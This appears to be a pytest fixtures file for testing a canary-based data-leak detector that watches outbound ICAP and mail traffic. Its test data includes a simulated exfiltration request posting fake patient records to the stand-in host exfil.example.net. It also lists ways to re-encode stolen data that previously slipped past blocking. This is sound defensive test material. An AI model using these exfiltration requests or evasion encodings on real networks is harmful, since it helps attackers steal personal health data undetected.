"""Fixtures for the egress tests: a registry with canaries on two systems and ICAP services on loopback."""

from __future__ import annotations

import base64
import dataclasses
import gzip
import io
import json
import zipfile
import zlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from canary.generate.seeding import derive_token
from canary.store import open_db
from canary.store.events import list_events
from canary.store.registry import add_canaries, add_system
from canary.watch.egress.icap import IcapService
from canary.watch.egress.inspect import EgressConfig, Inspector
from canary.watch.egress.milter import MilterService
from tests.support.records import make_record


@pytest.fixture(scope="module")
def registry(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, list[dict[str, Any]]]:
    """Four canaries: eg0000-eg0001 on ehr-lyon, eg0002-eg0003 on lab-nord."""
    path = tmp_path_factory.mktemp("egress") / "canary.db"
    db = open_db(path)
    add_system(db, "ehr-lyon", "ehr", establishment="CHU de test")
    add_system(db, "lab-nord", "lab", establishment="Labo de test")
    canaries = []
    for i in range(4):
        cid = f"eg{i:04d}"
        canaries.append({"id": cid, "system": "ehr-lyon" if i < 2 else "lab-nord", "generation": 1,
                         "created_at": "2026-01-01T00:00:00Z", "token": derive_token("k", cid),
                         **make_record(200 + i)})
    add_canaries(db, canaries)
    db.close()
    return path, canaries


def start_icap(db_path: Path, **config: Any) -> IcapService:
    settings = dataclasses.replace(EgressConfig(), **config)
    service = IcapService(db_path, "127.0.0.1", 0, Inspector(db_path, config=settings))
    service.start()
    return service


@pytest.fixture(scope="module")
def icap_monitor(registry) -> Iterator[IcapService]:
    service = start_icap(registry[0], max_body_bytes=1024 * 1024)
    yield service
    service.stop()


@pytest.fixture(scope="module")
def icap_block(registry) -> Iterator[IcapService]:
    service = start_icap(registry[0], block=True, max_body_bytes=1024 * 1024)
    yield service
    service.stop()


def events_for(db_path: Path, url_part: str) -> list[dict[str, Any]]:
    db = open_db(db_path)
    try:
        return [e for e in list_events(db) if url_part in str(e["details"].get("url", "")) or
                url_part in str(e["details"].get("subject", ""))]
    finally:
        db.close()


def passed_counts(db_path: Path) -> dict[tuple[str, str], tuple[int, int]]:
    db = open_db(db_path)
    try:
        return {(r[0], r[1]): (r[2], r[3]) for r in
                db.execute("SELECT channel, reason, SUM(count), SUM(bytes) FROM egress_passed GROUP BY 1, 2")}
    finally:
        db.close()


def csv_rows(*canaries: dict[str, Any], phone_only: bool = False) -> bytes:
    lines = ["nom;prenom;naissance;nir;telephone"]
    for c in canaries:
        phone = "0" + c["phones"][0][3:]
        if phone_only:
            lines.append(f"X;Y;;;{phone[:2]} {phone[2:4]} {phone[4:6]} {phone[6:8]} {phone[8:]}")
        else:
            lines.append(f"{c['birth_name']};{c['first_names'][0]};{c['birth_date']};{c['nir']};{phone}")
    lines.append("DURAND;Paul;1970-01-01;;")
    return ("\n".join(lines) + "\n").encode("utf-8")


def gzipped(data: bytes) -> bytes:
    return gzip.compress(data)


def zipped(name: str, data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(name, data)
    return buffer.getvalue()


def xlsx(*canaries: dict[str, Any]) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["Nom", "Prénom", "NIR", "Téléphone"])
    for c in canaries:
        sheet.append([c["birth_name"], c["first_names"][0], c["nir"], "0" + c["phones"][0][3:]])
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


# --- a raw ICAP client, for what a well-behaved proxy never sends -----------------------------------------

def icap_request(method: str, service: str, body: bytes | None, *, http_head: bytes | None = None,
                 extra: str = "", preview: int | None = None, allow_204: bool = True) -> tuple[bytes, bytes]:
    """(ICAP head, encapsulated + body) of a well-formed request; ``body`` None: no body."""
    if http_head is None:
        http_head = (b"POST http://exfil.example.net/drop HTTP/1.1\r\nHost: exfil.example.net\r\n"
                     b"Content-Type: text/csv\r\n\r\n")
    section = "res" if method == "RESPMOD" else "req"
    encapsulated = f"{section}-hdr=0, {section + '-body' if body is not None else 'null-body'}={len(http_head)}"
    lines = [f"{method} icap://127.0.0.1/{service} ICAP/1.0", "Host: 127.0.0.1", f"Encapsulated: {encapsulated}",
             "X-Client-IP: 10.9.8.7"]
    if allow_204:
        lines.append("Allow: 204")
    if preview is not None:
        lines.append(f"Preview: {preview}")
    if extra:
        lines.append(extra)
    return ("\r\n".join(lines) + "\r\n\r\n").encode(), http_head


def chunked(data: bytes, size: int = 65536, ieof: bool = False) -> bytes:
    out = b"".join(b"%x\r\n" % len(data[i:i + size]) + data[i:i + size] + b"\r\n" for i in range(0, len(data), size))
    return out + (b"0; ieof\r\n\r\n" if ieof else b"0\r\n\r\n")


class RawIcap:
    """One connection to the service; reads whole ICAP answers (head, encapsulated headers, chunked body)."""

    def __init__(self, port: int, timeout: float = 10.0) -> None:
        import socket

        self.sock = socket.create_connection(("127.0.0.1", port), timeout=timeout)
        self.buffer = b""

    def send(self, data: bytes) -> None:
        self.sock.sendall(data)

    def _fill(self) -> bool:
        data = self.sock.recv(1 << 20)
        self.buffer += data
        return bool(data)

    def _until(self, marker: bytes) -> bytes:
        while marker not in self.buffer:
            if not self._fill():
                raise EOFError(self.buffer[:200])
        head, self.buffer = self.buffer.split(marker, 1)
        return head

    def read_answer(self) -> tuple[int, dict[str, str], bytes, bytes]:
        """(status, ICAP headers, encapsulated headers, de-chunked body)."""
        head = self._until(b"\r\n\r\n").decode("latin-1").split("\r\n")
        status = int(head[0].split()[1])
        headers = {k.strip().lower(): v.strip() for k, _, v in (line.partition(":") for line in head[1:])}
        encapsulated = headers.get("encapsulated", "null-body=0")
        parts = dict(p.strip().split("=") for p in encapsulated.split(","))
        http = b""
        body = b""
        offset = int(parts.get("req-body") or parts.get("res-body") or parts.get("null-body") or 0)
        while len(self.buffer) < offset:
            if not self._fill():
                raise EOFError("encapsulated headers cut")
        http, self.buffer = self.buffer[:offset], self.buffer[offset:]
        if "req-body" in parts or "res-body" in parts:
            while True:
                size = int(self._until(b"\r\n").split(b";")[0], 16)
                if size == 0:
                    self._until(b"\r\n")
                    break
                while len(self.buffer) < size + 2:
                    if not self._fill():
                        raise EOFError("chunk cut")
                body += self.buffer[:size]
                self.buffer = self.buffer[size + 2:]
        return status, headers, http, body

    def closed(self) -> bool:
        try:
            return not self._fill()
        except OSError:
            return True

    def close(self) -> None:
        self.sock.close()


def start_milter(db_path: Path, **config: Any) -> MilterService:
    settings = dataclasses.replace(EgressConfig(), **config)
    service = MilterService(db_path, "127.0.0.1", 0, Inspector(db_path, config=settings))
    service.start()
    return service


# --- bodies re-encoded as a thief would send them (issue: each one was let through in block mode) -----------

def _deflate_raw(data: bytes) -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, -zlib.MAX_WBITS)
    return packer.compress(data) + packer.flush()


def _zstd(data: bytes) -> bytes:
    try:
        from compression import zstd  # type: ignore[import-not-found]
    except ImportError:
        from backports import zstd
    return zstd.compress(data)


def _multipart_base64(data: bytes) -> tuple[dict[str, str], bytes]:
    boundary = "----canarytest"
    body = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"fichier\"; filename=\"export.csv\"\r\n"
            "Content-Type: text/csv\r\nContent-Transfer-Encoding: base64\r\n\r\n").encode() + \
        base64.encodebytes(data) + f"\r\n--{boundary}--\r\n".encode()
    return {"Content-Type": f"multipart/form-data; boundary={boundary}"}, body


def xlsx_with_doctype(*canaries: dict[str, Any]) -> bytes:
    """A workbook whose sheet carries a harmless ``<!DOCTYPE worksheet>`` (openpyxl reads it anyway)."""
    source = zipfile.ZipFile(io.BytesIO(xlsx(*canaries)))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"?>", b"?><!DOCTYPE worksheet>", 1)
            target.writestr(info.filename, data)
    return buffer.getvalue()


def encoded_bodies(canary: dict[str, Any]) -> dict[str, tuple[dict[str, str], bytes]]:
    """Each encoding a web server accepts or a receiver decodes: (HTTP headers, body)."""
    import brotli

    data = csv_rows(canary)
    return {
        "deflate (zlib)": ({"Content-Type": "text/csv", "Content-Encoding": "deflate"}, zlib.compress(data)),
        "deflate (raw)": ({"Content-Type": "text/csv", "Content-Encoding": "deflate"}, _deflate_raw(data)),
        "br": ({"Content-Type": "text/csv", "Content-Encoding": "br"}, brotli.compress(data)),
        "zstd": ({"Content-Type": "text/csv", "Content-Encoding": "zstd"}, _zstd(data)),
        "gzip then br": ({"Content-Type": "text/csv", "Content-Encoding": "gzip, br"},
                         brotli.compress(gzip.compress(data))),
        "base64 body": ({"Content-Type": "text/plain"}, base64.encodebytes(data)),
        "base64 in json": ({"Content-Type": "application/json"},
                           json.dumps({"nom": "export", "contenu": base64.b64encode(data).decode()}).encode()),
        "json escapes": ({"Content-Type": "application/json"}, json.dumps({"csv": data.decode()}).encode()),
        "multipart part in base64": _multipart_base64(data),
        "xlsx with a doctype": ({"Content-Type": "application/octet-stream"}, xlsx_with_doctype(canary)),
    }
